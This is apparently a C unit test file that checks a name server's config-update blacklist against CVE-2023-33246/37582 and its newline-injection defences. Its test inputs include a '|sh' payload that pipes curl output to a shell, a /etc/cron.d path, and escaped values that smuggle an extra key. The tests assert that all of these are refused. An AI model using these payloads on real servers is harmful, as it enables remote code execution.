/* SPDX-License-Identifier: Apache-2.0 */
/* UPDATE_NAMESRV_CONFIG: applying known keys, the blacklist (CVE-2023-33246 /
 * CVE-2023-37582), all-or-nothing validation, and persistence that a value
 * with a newline cannot use to inject a key. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "nsrv/alloc.h"
#include "nsrv/buf.h"
#include "nsrv/common.h"
#include "nsrv/config.h"
#include "nsrv/fileio.h"
#include "nsrv/log.h"
#include "config_test.h"
#include "testlib.h"

static nsrv_test_dir_t tmp;

static int setup(void **state) {
    (void)state;
    if (nsrv_test_dir_make(&tmp, "cfg-upd") != 0)
        return -1;
    setenv("HOME", tmp.path, 1);
    unsetenv("ROCKETMQ_HOME");
    return 0;
}

static int teardown(void **state) {
    (void)state;
    nsrv_test_dir_remove(&tmp);
    return 0;
}

static nsrv_config_update_result_t update(nsrv_config_t *cfg, const char *body, char *remark,
                                          size_t remark_len) {
    nsrv_buf_t r = NSRV_BUF_INIT;
    nsrv_config_update_result_t res = nsrv_config_update(cfg, body, strlen(body), &r);
    snprintf(remark, remark_len, "%s", r.data ? r.data : "");
    nsrv_buf_deinit(&r);
    return res;
}

static void test_apply_and_persist(void **state) {
    (void)state;
    nsrv_config_t cfg;
    char remark[256];
    nsrv_config_init_defaults(&cfg);
    assert_int_equal(
        update(&cfg, "enableAllTopicList=false\nwaitSecondsForService=7\n", remark, sizeof remark),
        NSRV_CONFIG_UPDATE_OK);
    assert_string_equal(remark, "");
    assert_false(cfg.enable_all_topic_list);
    assert_int_equal(cfg.wait_seconds_for_service, 7);
    assert_int_equal(cfg.version, 1);
    assert_int_equal(nsrv_config_persist(&cfg), 0);

    /* What was persisted is the rendered config, and it loads back. */
    nsrv_config_t back;
    char err[256];
    nsrv_config_init_defaults(&back);
    assert_int_equal(nsrv_config_load_file(&back, cfg.config_store_path, err, sizeof err), 0);
    assert_false(back.enable_all_topic_list);
    assert_int_equal(back.wait_seconds_for_service, 7);
    char *a = ct_render(&cfg), *b = ct_render(&back);
    assert_string_equal(a, b);
    nsrv_free(a);
    nsrv_free(b);
    nsrv_config_free(&back);

    /* A second persist keeps the previous file as .bak. */
    assert_int_equal(update(&cfg, "listenPort=9999", remark, sizeof remark), NSRV_CONFIG_UPDATE_OK);
    assert_int_equal(cfg.listen_port, 9999);
    assert_int_equal(cfg.version, 2);
    assert_int_equal(nsrv_config_persist(&cfg), 0);
    nsrv_buf_t bak = NSRV_BUF_INIT;
    nsrv_buf_printf(&bak, "%s.bak", cfg.config_store_path);
    char *text = NULL;
    size_t len = 0;
    assert_int_equal(nsrv_file_read_all(bak.data, 1 << 20, &text, &len), 0);
    assert_non_null(strstr(text, "\nlistenPort=9876\n"));
    nsrv_free(text);
    nsrv_buf_deinit(&bak);
    nsrv_config_free(&cfg);
}

static void test_noop_bodies(void **state) {
    (void)state;
    nsrv_config_t cfg;
    char remark[256];
    nsrv_config_init_defaults(&cfg);
    char *before = ct_render(&cfg);
    assert_int_equal(update(&cfg, "", remark, sizeof remark), NSRV_CONFIG_UPDATE_OK);
    assert_int_equal(update(&cfg, "# only a comment\n\n", remark, sizeof remark),
                     NSRV_CONFIG_UPDATE_OK);
    /* Unknown keys are ignored (logged), never stored or rendered. */
    assert_int_equal(update(&cfg, "someUnknownKey=1\n=empty key\n", remark, sizeof remark),
                     NSRV_CONFIG_UPDATE_OK);
    assert_string_equal(remark, "");
    assert_int_equal(cfg.version, 0);
    assert_int_equal(cfg.extra.count, 0);
    char *after = ct_render(&cfg);
    assert_string_equal(before, after);
    nsrv_free(before);
    nsrv_free(after);

    assert_int_equal(update(&cfg, "someUnknownKey=1\nenableTopicList=false", remark, sizeof remark),
                     NSRV_CONFIG_UPDATE_OK);
    assert_false(cfg.enable_topic_list);
    assert_int_equal(cfg.version, 1);
    assert_null(nsrv_props_get(&cfg.extra, "someUnknownKey"));
    nsrv_config_free(&cfg);
}

static void expect_refused(nsrv_config_t *cfg, const char *body) {
    char remark[256];
    char *before = ct_render(cfg);
    uint64_t v = cfg->version;
    nsrv_config_update_result_t res = update(cfg, body, remark, sizeof remark);
    if (res != NSRV_CONFIG_UPDATE_NO_PERMISSION)
        fail_msg("body [%s]: result %d, expected NO_PERMISSION", body, (int)res);
    assert_string_equal(remark, "Can not update config in black list.");
    char *after = ct_render(cfg);
    assert_string_equal(before, after);
    assert_int_equal(cfg->version, v);
    nsrv_free(before);
    nsrv_free(after);
}

static void test_blacklist(void **state) {
    (void)state;
    nsrv_config_t cfg;
    char err[256];
    nsrv_config_init_defaults(&cfg);
    /* The four fixed keys, each next to an allowed key that must not apply. */
    expect_refused(&cfg, "enableAllTopicList=false\nconfigBlackList=\n");
    expect_refused(&cfg, "enableAllTopicList=false\nconfigStorePath=/etc/cron.d/x\n");
    expect_refused(&cfg, "kvConfigPath=/tmp/evil.json\nenableAllTopicList=false\n");
    expect_refused(&cfg, "rocketmqHome=/tmp/evil -c $@|sh . echo curl x.y|sh;\n");
    /* Escapes do not hide a key. */
    expect_refused(&cfg, "kvConfig\\u0050ath=/tmp/evil.json\n");
    expect_refused(&cfg, "kvConfig\\\n    Path=/tmp/evil.json\n");
    assert_true(cfg.enable_all_topic_list);

    /* Entries added through configBlackList (from the file), trimmed. */
    const char *text = "configBlackList=configBlackList;configStorePath;kvConfigPath;listenPort; "
                       "productEnvName ;;someUnknownKey\n";
    assert_int_equal(nsrv_config_load_text(&cfg, "t", text, strlen(text), err, sizeof err), 0);
    expect_refused(&cfg, "listenPort=1\n");
    expect_refused(&cfg, "productEnvName=x\n");
    expect_refused(&cfg, "someUnknownKey=x\n");
    /* The fixed keys stay refused even when the list omits them. */
    nsrv_config_free(&cfg);
    nsrv_config_init_defaults(&cfg);
    text = "configBlackList=\n";
    assert_int_equal(nsrv_config_load_text(&cfg, "t", text, strlen(text), err, sizeof err), 0);
    expect_refused(&cfg, "kvConfigPath=/x\n");
    expect_refused(&cfg, "configStorePath=/x\n");
    expect_refused(&cfg, "configBlackList=\n");
    expect_refused(&cfg, "rocketmqHome=/x\n");
    char remark[64];
    assert_int_equal(update(&cfg, "listenPort=1\n", remark, sizeof remark), NSRV_CONFIG_UPDATE_OK);
    nsrv_config_free(&cfg);
}

static void test_invalid_applies_nothing(void **state) {
    (void)state;
    nsrv_config_t cfg;
    char remark[256];
    nsrv_config_init_defaults(&cfg);
    assert_int_equal(
        update(&cfg, "enableAllTopicList=false\nlistenPort=abc\n", remark, sizeof remark),
        NSRV_CONFIG_UPDATE_INVALID);
    assert_non_null(strstr(remark, "'listenPort'"));
    assert_non_null(strstr(remark, "'abc'"));
    assert_true(cfg.enable_all_topic_list);
    assert_int_equal(cfg.listen_port, 9876);
    assert_int_equal(cfg.version, 0);

    assert_int_equal(update(&cfg, "orderMessageEnable=yes\n", remark, sizeof remark),
                     NSRV_CONFIG_UPDATE_INVALID);
    assert_non_null(strstr(remark, "orderMessageEnable"));
    assert_int_equal(update(&cfg, "logLevel=loud\n", remark, sizeof remark),
                     NSRV_CONFIG_UPDATE_INVALID);

    /* A body that is not properties text. */
    assert_int_equal(update(&cfg, "enableAllTopicList=false\na=\\u12", remark, sizeof remark),
                     NSRV_CONFIG_UPDATE_PARSE_ERROR);
    assert_string_equal(remark, "string2Properties error");
    assert_true(cfg.enable_all_topic_list);
    nsrv_config_free(&cfg);
}

static void test_log_level_runtime(void **state) {
    (void)state;
    int saved = nsrv_log_level; /* restored at the end: the level is process-wide */
    nsrv_config_t cfg;
    char remark[64];
    nsrv_config_init_defaults(&cfg);
    assert_int_equal(update(&cfg, "logLevel=error", remark, sizeof remark), NSRV_CONFIG_UPDATE_OK);
    assert_int_equal(nsrv_log_level, NSRV_LOG_ERROR);
    assert_string_equal(cfg.log_level, "error");
    nsrv_log_level = saved;
    nsrv_config_free(&cfg);
}

/* The CVE pattern: a value carrying "\n<path key>=..." must never become a
 * key. Control characters are refused outright (they would also show up as
 * extra lines in GET_NAMESRV_CONFIG, which clients parse as properties), and
 * what is accepted is persisted escaped so it reads back as one value. */
static void injection_refused(const char *body) {
    nsrv_config_t cfg;
    char remark[256];
    nsrv_config_init_defaults(&cfg);
    char *kv_default = nsrv_strdup(cfg.kv_config_path);
    char *env_default = nsrv_strdup(cfg.product_env_name);
    assert_int_equal(update(&cfg, body, remark, sizeof remark), NSRV_CONFIG_UPDATE_INVALID);
    assert_non_null(strstr(remark, "productEnvName"));
    assert_string_equal(cfg.product_env_name, env_default);
    assert_string_equal(cfg.kv_config_path, kv_default);
    nsrv_config_free(&cfg);
    nsrv_free(kv_default);
    nsrv_free(env_default);
}

static void persisted_round_trip(const char *body, const char *want_value) {
    nsrv_config_t cfg, back;
    char remark[256], err[256];
    nsrv_config_init_defaults(&cfg);
    char *kv_default = nsrv_strdup(cfg.kv_config_path);
    assert_int_equal(update(&cfg, body, remark, sizeof remark), NSRV_CONFIG_UPDATE_OK);
    assert_string_equal(cfg.product_env_name, want_value);
    assert_int_equal(nsrv_config_persist(&cfg), 0);
    nsrv_config_init_defaults(&back);
    assert_int_equal(nsrv_config_load_file(&back, cfg.config_store_path, err, sizeof err), 0);
    assert_string_equal(back.kv_config_path, kv_default);
    assert_string_equal(back.product_env_name, want_value);
    assert_int_equal(back.extra.count, 0);
    nsrv_config_free(&back);
    nsrv_config_free(&cfg);
    nsrv_free(kv_default);
}

static void test_newline_injection(void **state) {
    (void)state;
    injection_refused("productEnvName=x\\nkvConfigPath=/etc/evil\n");
    injection_refused("productEnvName=x\\r\\nkvConfigPath=/etc/evil\\r\n");
    injection_refused("productEnvName=x\\\\\\nkvConfigPath=/etc/evil\n");
    injection_refused("productEnvName=a\\u000akvConfigPath\\u003d/etc/evil\n");
    injection_refused("productEnvName=tab\\there\n");
    /* Separators, comment marks and backslashes are fine and survive persisting. */
    persisted_round_trip("productEnvName=a\\\\b=c:d #e !f\n", "a\\b=c:d #e !f");
}

static void test_persist_round_trip_extras(void **state) {
    (void)state;
    nsrv_config_t cfg, back;
    char err[256];
    nsrv_config_init_defaults(&cfg);
    /* Odd unknown keys from a -c file survive persist + reload unchanged. */
    const char *text = "we\\ ird\\=key=  v\\talue \n#comment\n\\#hash=\\u00e9\\\\\n";
    nsrv_buf_t p = NSRV_BUF_INIT;
    nsrv_buf_printf(&p, "%s/c.properties", tmp.path);
    assert_int_equal(nsrv_file_write_atomic(p.data, text, strlen(text), false), 0);
    assert_int_equal(nsrv_config_load_file(&cfg, p.data, err, sizeof err), 0);
    assert_int_equal(cfg.extra.count, 2);
    assert_string_equal(nsrv_props_get(&cfg.extra, "we ird=key"), "v\talue ");
    assert_int_equal(nsrv_config_persist(&cfg), 0);
    nsrv_config_init_defaults(&back);
    assert_int_equal(nsrv_config_load_file(&back, p.data, err, sizeof err), 0);
    char *a = ct_render(&cfg), *b = ct_render(&back);
    assert_string_equal(a, b);
    nsrv_free(a);
    nsrv_free(b);
    nsrv_config_free(&back);
    nsrv_config_free(&cfg);
    nsrv_buf_deinit(&p);
}

static void test_persist_errors(void **state) {
    (void)state;
    nsrv_config_t cfg;
    nsrv_config_init_defaults(&cfg);
    nsrv_free(cfg.config_store_path);
    cfg.config_store_path = nsrv_strdup("");
    assert_int_equal(nsrv_config_persist(&cfg), -EINVAL);
    nsrv_free(cfg.config_store_path);
    /* A regular file where a directory is needed. */
    nsrv_buf_t p = NSRV_BUF_INIT;
    nsrv_buf_printf(&p, "%s/plainfile", tmp.path);
    assert_int_equal(nsrv_file_write_atomic(p.data, "x", 1, false), 0);
    nsrv_buf_append_c(&p, "/sub/namesrv.properties");
    cfg.config_store_path = nsrv_buf_steal(&p, NULL);
    assert_true(nsrv_config_persist(&cfg) < 0);
    nsrv_config_free(&cfg);
}

/* SIGHUP's adoption of reloaded keys: each type copied, the rest untouched, an unknown
 * name refused. */
static void test_adopt_named_keys(void **state) {
    (void)state;
    nsrv_config_t run, fresh;
    nsrv_config_init_defaults(&run);
    nsrv_config_init_defaults(&fresh);
    nsrv_free(fresh.gossip_peers);
    fresh.gossip_peers = nsrv_strdup("2@nsrvd2:9878");
    fresh.gossip_key_id = 7;
    fresh.admin_acl_enable = true;
    fresh.listen_port = 1;
    static const char *const names[] = {"gossipPeers", "gossipKeyId", "adminAclEnable", NULL};
    assert_int_equal(nsrv_config_adopt(&run, &fresh, names), 0);
    assert_string_equal(run.gossip_peers, "2@nsrvd2:9878");
    assert_int_equal(run.gossip_key_id, 7);
    assert_true(run.admin_acl_enable);
    assert_int_equal(run.listen_port, 9876);
    static const char *const unknown[] = {"noSuchKey", NULL};
    assert_int_equal(nsrv_config_adopt(&run, &fresh, unknown), -1);
    nsrv_config_free(&fresh);
    nsrv_config_free(&run);
}

NSRV_TEST_MAIN(setup, teardown, cmocka_unit_test(test_apply_and_persist),
               cmocka_unit_test(test_noop_bodies), cmocka_unit_test(test_blacklist),
               cmocka_unit_test(test_invalid_applies_nothing),
               cmocka_unit_test(test_log_level_runtime), cmocka_unit_test(test_newline_injection),
               cmocka_unit_test(test_persist_round_trip_extras),
               cmocka_unit_test(test_persist_errors), cmocka_unit_test(test_adopt_named_keys))
